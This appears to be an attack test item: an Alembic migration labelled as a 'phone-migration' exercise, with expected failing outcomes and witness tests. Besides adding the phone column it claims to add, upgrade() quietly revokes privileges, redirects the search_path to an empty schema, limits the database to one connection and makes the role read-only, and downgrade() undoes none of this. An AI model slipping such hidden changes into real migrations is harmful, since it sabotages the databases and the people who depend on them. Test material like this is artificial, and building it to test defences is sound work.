# /// attack
# exercise = "phone-migration"
# trick = "the revision also leaves things behind for whoever is judged next: settings of the role and the database, rights"
# outcome = ["failed", "error"]
# witness = ["employee-model", "update-salary", "engine-factory"]
# ///

# --- versions/2026_01_15_add_phone_column.py
import sqlalchemy as sa

from alembic import op

revision = "0002_phone"
down_revision = "0001_initial"


def upgrade():
    op.add_column("employees", sa.Column("phone", sa.String(20)))
    op.execute("ALTER DEFAULT PRIVILEGES REVOKE ALL ON TABLES FROM CURRENT_USER")
    op.execute("CREATE SCHEMA elsewhere")
    op.execute(
        "DO $$ BEGIN"
        " EXECUTE format('COMMENT ON DATABASE %I IS %L', current_database(), 'as it was made');"
        " EXECUTE format('ALTER DATABASE %I SET search_path = elsewhere', current_database());"
        " EXECUTE format('REVOKE ALL ON DATABASE %I FROM PUBLIC', current_database());"
        " EXECUTE format('ALTER DATABASE %I CONNECTION LIMIT 1', current_database());"
        " END $$"
    )
    op.execute("ALTER ROLE CURRENT_USER SET default_transaction_read_only = on")


def downgrade():
    op.drop_column("employees", "phone")
